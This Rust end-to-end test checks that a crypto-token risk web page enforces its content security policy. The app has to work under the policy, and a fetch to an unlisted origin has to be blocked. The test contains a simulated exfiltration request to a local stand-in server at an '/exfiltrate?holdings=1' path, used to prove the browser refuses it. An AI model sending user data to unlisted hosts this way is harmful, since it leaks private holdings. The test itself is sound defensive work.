//! The built page's content security policy: the page works under it (no violation, the app
//! draws, the configured stand-in answers), and a request to an origin the configuration does
//! not name is refused by the browser.

use serde_json::json;
use std::sync::atomic::{AtomicUsize, Ordering};
use std::sync::Arc;
use tokenrisk_e2e::stand_ins::*;
use tokenrisk_testserver::{Response, TestServer};

#[tokio::test]
async fn the_page_works_under_its_policy_and_other_origins_are_refused() {
    let binance = fake_binance();
    let session = session(binance.server.url(), 600_000).await;
    session.open("?token=TAO&range=1y").await;
    let policy = session
        .js(
            "const m = document.querySelector('meta[http-equiv=\"Content-Security-Policy\"]');
             return m ? m.content : '';",
            vec![],
        )
        .await
        .as_str()
        .unwrap_or_default()
        .to_owned();
    for directive in [
        "default-src 'none'",
        "'wasm-unsafe-eval'",
        "object-src 'none'",
        "base-uri 'self'",
        "connect-src 'self' https://data-api.binance.vision",
    ] {
        assert!(policy.contains(directive), "{directive}: {policy}");
    }
    assert!(
        policy.matches("'sha256-").count() >= 2,
        "the theme script and the module loader are allowed by hash: {policy}"
    );
    assert!(!policy.contains("unsafe-eval'") || policy.contains("wasm-unsafe-eval"));
    // The app runs: WebAssembly compiled, the chart drawn, the configured API answered.
    status(&session, "live").await;
    assert!(session.painted_pixels("price-chart").await > 1000);

    // An origin the configuration does not name: refused before any request leaves.
    let reached = Arc::new(AtomicUsize::new(0));
    let counter = Arc::clone(&reached);
    let elsewhere = TestServer::start(move |_| {
        counter.fetch_add(1, Ordering::SeqCst);
        Response::ok("application/json", "{}")
    });
    let port = elsewhere
        .url()
        .rsplit(':')
        .next()
        .unwrap_or_default()
        .to_owned();
    let outcome = session
        .js(
            "const url = arguments[0];
             let violation = null;
             document.addEventListener('securitypolicyviolation',
                 e => { violation = e.effectiveDirective + ' ' + e.blockedURI; }, { once: true });
             return fetch(url).then(() => 'answered', e => 'refused: ' + e.name)
                 .then(r => new Promise(ok => setTimeout(() => ok(r + ' | ' + violation), 100)));",
            vec![json!(format!(
                "http://localhost:{port}/exfiltrate?holdings=1"
            ))],
        )
        .await;
    let outcome = outcome.as_str().unwrap_or_default().to_owned();
    assert!(
        outcome.starts_with("refused: TypeError | connect-src http://localhost:"),
        "{outcome}"
    );
    assert_eq!(
        reached.load(Ordering::SeqCst),
        0,
        "nothing reached the other origin"
    );
    let violations: Vec<String> = session
        .console_errors()
        .await
        .into_iter()
        .filter(|e| e.contains("Content Security Policy"))
        .collect();
    assert!(
        !violations.is_empty()
            && violations
                .iter()
                .all(|v| v.contains(&format!("localhost:{port}/exfiltrate"))),
        "only the refused request violates the policy: {violations:?}"
    );
    session.assert_no_panic().await;
    session.close().await;
}
